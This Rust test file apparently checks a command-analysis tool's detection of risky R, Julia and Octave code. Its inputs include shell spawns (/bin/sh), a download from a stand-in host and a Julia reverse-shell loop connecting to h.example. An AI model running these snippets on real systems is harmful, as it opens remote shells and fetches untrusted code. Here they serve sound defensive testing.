//! R, Julia and Octave.

use super::check;
use aegish_profiles::Lang;

#[test]
fn r_julia_octave() {
    check(
        Lang::R,
        &[
            ("system(\"/bin/sh\")", &["shell /bin/sh"]),
            ("system2('ls', c('-l', '/'))", &["argv ls|-l|/"]),
            ("base::system('id')", &["shell id"]),
            ("x <- paste0('i', 'd'); system(x)", &["shell id"]),
            ("system(paste('ls', '-l'))", &["shell ls -l"]),
            ("eval(parse(text='system(\"id\")'))", &["eval r system(\"id\")"]),
            (
                "download.file('http://h.example/x', '/tmp/x')",
                &["fetch http://h.example/x -> /tmp/x"],
            ),
            ("source('/srv/x.R')", &["script r /srv/x.R"]),
            ("cat(readLines('/etc/hosts'))", &["read /etc/hosts"]),
            ("unlink('/tmp/x')", &["delete /tmp/x"]),
            ("dyn.load('./x.so')", &["load ./x.so"]),
            ("print(summary(cars))", &[]),
            ("x <- read.csv('data.csv'); mean(x$exec)", &["read data.csv"]),
            ("# system('x')", &[]),
        ],
    );
    check(
        Lang::Julia,
        &[
            ("run(`/bin/sh -p`)", &["argv /bin/sh|-p"]),
            ("c = \"id\"; run(`$c -u`)", &["argv id|-u"]),
            ("read(`ls -l`, String)", &["argv ls|-l"]),
            ("print(open(f->read(f, String), ENV[\"TARGET\"]))", &["read /srv/data.bin"]),
            ("open(f->write(f, \"DATA\"), \"/tmp/x\", \"w\")", &["write /tmp/x <- DATA"]),
            ("download(ENV[\"LINK\"], \"/tmp/x\")", &["fetch http://peer.example/tool -> /tmp/x"]),
            ("eval(Meta.parse(\"1+1\"))", &["eval julia 1+1"]),
            ("include(\"/srv/x.jl\")", &["script julia /srv/x.jl"]),
            (
                "using Sockets; sock=connect(\"h.example\", 99); while true; cmd = readline(sock); if !isempty(cmd); cmd = split(cmd); run(pipeline(`$cmd`, stdout=ioo)); end; end;",
                &["connect h.example 99", "received"],
            ),
            ("println(\"run(`x`)\")", &["print run(`x`)\n"]),
            ("println(1 + 1)", &["print 2\n"]),
            ("using Pkg; Pkg.status()", &[]),
        ],
    );
    check(
        Lang::Octave,
        &[
            ("system(\"/bin/sh\")", &["shell /bin/sh"]),
            (
                "fid = fopen('/tmp/x', 'w'); fputs(fid, 'DATA'); fclose(fid);",
                &["write /tmp/x <- DATA"],
            ),
            (
                "fid = fopen(\"/etc/hosts\"); while(!feof(fid)); txt = fgetl(fid); disp(txt); endwhile;",
                &["read /etc/hosts"],
            ),
            ("x = A'; y = x'; disp('system(1)')", &["print system(1)\n"]),
            ("eval('x=1')", &["eval octave x=1"]),
            ("% system('x')", &[]),
        ],
    );
}
